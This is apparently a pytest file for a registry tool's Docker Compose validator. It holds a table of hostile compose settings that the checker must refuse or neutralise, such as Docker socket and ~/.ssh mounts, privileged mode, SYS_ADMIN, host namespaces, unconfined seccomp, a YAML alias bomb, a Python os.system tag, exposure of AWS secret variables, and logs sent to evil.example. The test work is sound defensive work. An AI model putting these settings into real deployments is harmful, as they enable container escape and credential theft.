"""Compose files that reach for the host: each row is refused for its own reason, or loses its teeth in what is written.

The numbers are those of the corpus of attacks on sandboxes; rows without one were thought of since.
"""

from dataclasses import dataclass

import pytest
import yaml

from registry_tool.core.describe import Said, describe
from registry_tool.core.kind import Kinds
from registry_tool.core.native.compose import read_compose
from registry_tool.core.native.compose_emit import emit
from registry_tool.core.payload import Payload, PayloadFile
from registry_tool.kinds.app import KIND

CARD = "id: '@ann/app'\nversion: 1.0.0\nauthor: ann\ntitle: A\ndescription: Does what it says.\nlicense: MIT\n"
GRANTED = ("mount:data:/data", "port:8080/tcp")
"""What the card grants where a row does not say: what the file below asks for without the attack."""


@dataclass(frozen=True)
class Row:
    """One attack."""

    name: str
    lines: str
    """Added to a service that is ordinary."""
    word: str
    """Of the reason; for an attack that is written anew, what must not be in what is written."""
    top: str = ""
    granted: tuple[str, ...] = GRANTED
    whole: str = ""
    """The whole file, where lines of a service cannot say it."""

    @property
    def file(self) -> str:
        """The compose file."""
        base = "services:\n  web:\n    image: a/web:1\n    user: '1000'\n"
        mounts = "" if "volumes:" in self.lines else "    volumes: ['data:/data']\n"
        ports = "" if "ports:" in self.lines else "    ports: ['8080:80']\n"
        return (
            self.whole
            or base + mounts + ports + "".join(f"    {line}\n" for line in self.lines.splitlines()) + self.top
        )

    @property
    def payload(self) -> Payload:
        """The author's folder."""
        card = CARD + f"permissions: {list(self.granted)}\n"
        files = {"artifact.yaml": card, "compose.yaml": self.file, "c/x": "", "x": ""}
        return {path: PayloadFile(text.encode()) for path, text in files.items()}


def mounted(source: str) -> str:
    """A line that mounts it."""
    return f"volumes: ['data:/data', '{source}:/x']"


BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 10)}]\n" for before, name in zip("abcdef", "bcdefg", strict=True)
)

REFUSED = (
    Row("69 socket of the engine", mounted("/var/run/docker.sock"), "socket gives all"),
    Row("69 the same by a variable", mounted("${DOCKER_SOCK:-/run/podman/podman.sock}"), "socket gives all"),
    Row("70 settings of the host", mounted("/etc"), "outside of the app's own folder"),
    Row("70 the whole host", mounted("/"), "outside of the app's own folder"),
    Row("71 keys of a person", mounted("~/.ssh"), "outside of the app's own folder"),
    Row("71 the same by HOME", mounted("${HOME}/.ssh"), "outside of the app's own folder"),
    Row("71 the same by its path", mounted("/home/ann/.ssh"), "outside of the app's own folder"),
    Row("72 out of the folder", mounted("./a/../../x"), "outside of the app's own folder"),
    Row("72 out of it by a variable", mounted("${A}/../../etc"), "outside of the app's own folder"),
    Row(
        "73 a driver that binds",
        "",
        "by its driver",
        top="volumes: {data: {driver_opts: {type: none, o: bind, device: /}}}\n",
    ),
    Row("74 somebody else's volume", "", "belongs to something else", top="volumes: {data: {external: true}}\n"),
    Row("75 privileged", "privileged: true", "opens the host's own"),
    Row("75 privileged in words", "privileged: 'true'", "opens the host's own"),
    Row("76 SYS_ADMIN", "cap_add: [SYS_ADMIN]", "'SYS_ADMIN' is never granted"),
    Row("77 in small letters", "cap_add: [cap_sys_ptrace]", "'SYS_PTRACE' is never granted"),
    Row("77 all of them", "cap_add: [ALL]", "'ALL' is never granted"),
    Row("78 the host's processes", "pid: host", "opens the host's own"),
    Row("79 the host's network", "network_mode: host", "shares a network"),
    Row("80 another container's network", "network_mode: container:x", "shares a network"),
    Row("82 a range that is not granted", "ports: ['8080-8090:80-90']", "'port:8081/tcp' and it is not granted"),
    Row("82 a range without an end", "ports: ['1-65535:1-65535']", "is not a port"),
    Row("83 a random port that is not granted", "ports: ['8080:80', '81']", "'port:81/tcp' and it is not granted"),
    Row("84 an ungranted port", "ports: ['8080:80', '22:22']", "'port:22/tcp' and it is not granted"),
    Row("84 an ungranted mount", mounted("more"), "'mount:more:/x' and it is not granted"),
    Row("84 an ungranted capability", "cap_add: [SETUID]", "'cap:SETUID' and it is not granted"),
    Row(
        "84 a mount that is granted to be read",
        "",
        "and it is not granted",
        granted=("mount:data:/data:ro", GRANTED[1]),
    ),
    Row("85 udp for tcp", "ports: ['8080:80/udp']", "'port:8080/udp' and it is not granted"),
    Row("88 alias bomb", "", "at most 20000 values", whole=BOMB + "services: {}\n"),
    Row("90 duplicate key", "", "is there twice", top="services: {}\n"),
    Row("91 two documents", "", "a second begins", top="---\nservices: {}\n"),
    Row("92 a tag of Python", "x: !!python/object/apply:os.system [id]", "tags are not allowed"),
    Row("93 an unused port", "", "do not use it", granted=(*GRANTED, "port:9090/tcp")),
    Row("93 an unused mount", "", "do not use it", granted=(*GRANTED, "mount:x:/x")),
    Row("93 an unused capability", "", "do not use it", granted=(*GRANTED, "cap:NET_BIND_SERVICE")),
    Row("93 one that images begin with", "", "do not use it", granted=(*GRANTED, "cap:CHOWN")),
    Row("devices", "devices: [/dev/mem]", "opens devices"),
    Row("devices by their group", "device_cgroup_rules: ['a *:* rwm']", "opens devices"),
    Row(
        "graphics by a reservation",
        "deploy: {resources: {reservations: {devices: [{count: 1}]}}}",
        "devices of the host",
    ),
    Row("another runtime", "runtime: nvidia", "opens the host's own"),
    Row("the host's users", "userns_mode: host", "opens the host's own"),
    Row("the host's memory", "ipc: host", "opens the host's own"),
    Row("the host's groups of resources", "cgroup: host", "opens the host's own"),
    Row("out of the limits", "cgroup_parent: /", "leaves the limits"),
    Row("no filter of calls", "security_opt: ['seccomp:unconfined']", "takes a protection away"),
    Row("new privileges", "security_opt: ['no-new-privileges:false']", "takes a protection away"),
    Row("a program after the start", "post_start: [{command: id, privileged: true}]", "more rights"),
    Row("a program of the host", "provider: {type: x}", "starts programs of the host"),
    Row("the engine's socket in a word", "use_api_socket: true", "gives the engine's socket away"),
    Row("another file", "extends: {file: /etc/x.yaml, service: a}", "takes in another file"),
    Row("another file at the top", "", "takes in another file", top="include: [/etc/x.yaml]\n"),
    Row("a build on the host", "build: .", "has no image", whole="services: {web: {build: ''}}\n"),
    Row("the host's kernel", mounted("/proc/sys"), "outside of the app's own folder"),
    Row("the host's services", mounted("/run/dbus"), "outside of the app's own folder"),
    Row("any socket", mounted("/srv/agent.sock"), "a socket of the host"),
    Row("over the container's own /proc", "volumes: ['data:/data', 'x:/proc/1']", "nothing is mounted over"),
    Row("its own starting file", mounted("./compose.yaml"), "holds what starts the app"),
    Row("its own values", mounted("./.env"), "holds what starts the app"),
    Row("a link from a folder that it writes", "volumes: ['./a:/a', './a/b:/b']", "lies inside of ./a"),
    Row(
        "a link in place of a config", "volumes: ['./c:/c']", "lies inside of ./c", top="configs: {x: {file: ./c/x}}\n"
    ),
    Row("a config that it writes itself", "volumes: ['./x:/c']", "lies inside of ./x", top="configs: {c: {file: x}}\n"),
    Row("what people said", mounted("./.values"), "holds what starts the app"),
    Row("a key that is not known", "oci_hooks: [x]", "is not a key"),
    Row("a secret of the host", "", "is not a file of the app", top="configs: {c: {file: /etc/shadow}}\n"),
)

REWRITTEN = (
    Row("81 everybody's address", "ports: ['0.0.0.0:8080:80']", "0.0.0.0"),
    Row("81 the same in version six", "ports: ['[::]:8080:80']", "[::]"),
    Row("81 the same in the long form", "ports: [{target: 80, published: 8080, host_ip: 0.0.0.0}]", "0.0.0.0"),
    Row("83 a random port", "ports: ['127.0.0.1:0:8080']", ":0:"),
    Row("87 a variable of the shell", "environment: ['KEY=${AWS_SECRET_ACCESS_KEY}']", "${AWS_SECRET_ACCESS_KEY}"),
    Row("87 one without a value", "environment: [AWS_SECRET_ACCESS_KEY]", "${AWS_SECRET_ACCESS_KEY}"),
    Row("87 one in braces", "command: $AWS_SECRET_ACCESS_KEY", "$AWS_SECRET_ACCESS_KEY"),
    Row("89 merge key", "<<: {labels: {watchtower: 'yes'}, annotations: {run.oci.keep: '1'}}", "watchtower"),
    Row("labels that others obey", "labels: {traefik.enable: 'true'}", "traefik"),
    Row("a name that others use", "container_name: postgres\nlinks: []", "container_name"),
    Row("another network", "networks: [theirs]", "external", top="networks: {theirs: {external: true}}\n"),
    Row("addresses of the host", "extra_hosts: ['host:host-gateway']\ndns: [192.168.1.1]", "host-gateway"),
    Row("settings of the kernel", "sysctls: {kernel.core_pattern: '|/x'}", "core_pattern"),
    Row("without an end", "mem_limit: 1000g\npids_limit: -1\nulimits: {nofile: x}", "1000g"),
    Row("beyond the host's stop", "oom_kill_disable: true\nmemswap_limit: -1", "oom_kill_disable"),
    Row(
        "where logs go", "logging: {driver: syslog, options: {syslog-address: 'tcp://evil.example:1'}}", "evil.example"
    ),
    Row("the address of another machine", "mac_address: '02:42:ac:11:65:43'\ngroup_add: [docker]", "docker"),
)


def findings_of(row: Row) -> list[str]:
    """What refuses it, when its author checks it."""
    described = describe(row.payload, kinds=Kinds.of([KIND]), registry="ab" * 32, said=Said())
    assert described.manifest is None or not [one for one in described.findings if one.level == "fail"]
    return [finding.message for finding in described.findings if finding.level == "fail"]


@pytest.mark.parametrize("row", REFUSED, ids=lambda row: row.name)
def test_an_attack_is_refused_for_its_own_reason(row: Row) -> None:
    """There is a fault that says so, in words that name it."""
    faults = findings_of(row)

    assert any(row.word in fault for fault in faults), faults


@pytest.mark.parametrize("row", REWRITTEN, ids=lambda row: row.name)
def test_an_attack_that_is_ordinary_too_loses_its_teeth(row: Row) -> None:
    """It is published, and what is written holds nothing of it: real files are full of these."""
    compose = read_compose({"compose.yaml": row.file.encode()}, "compose.yaml")

    written = emit(compose, granted=frozenset(GRANTED), digests={}).decode()

    assert [] == findings_of(row)
    assert row.word not in written
    (service,) = yaml.safe_load(written)["services"].values()
    assert (["ALL"], ["127.0.0.1:8080:80/tcp"]) == (
        service["cap_drop"],
        [service["ports"][0].replace("8080/tcp", "80/tcp")],
    )


@pytest.mark.parametrize("image", ["redis:7", "redis", "redis:latest"])
def test_an_image_without_a_digest_waits_for_a_person(image: str) -> None:
    """Row 86: a tag is ordinary; it is among what nobody pinned, which a person has to accept (B10)."""
    payload = {"compose.yaml": PayloadFile(f"services:\n  web:\n    image: {image}\n".encode())}

    described = describe(payload, kinds=Kinds.of([KIND]), registry="ab" * 32, said=Said())

    assert (f"image {image}",) == described.reading.unpinned


def test_a_plain_good_file_is_accepted() -> None:
    """Row 141: nothing is left out of it but what says who may reach it."""
    row = Row(
        "141", "restart: unless-stopped\nread_only: true\ncap_drop: [ALL]\nsecurity_opt: ['no-new-privileges:true']", ""
    )
    described = describe(row.payload, kinds=Kinds.of([KIND]), registry="ab" * 32, said=Said())

    assert described.manifest
    assert GRANTED == tuple(described.manifest.permissions)
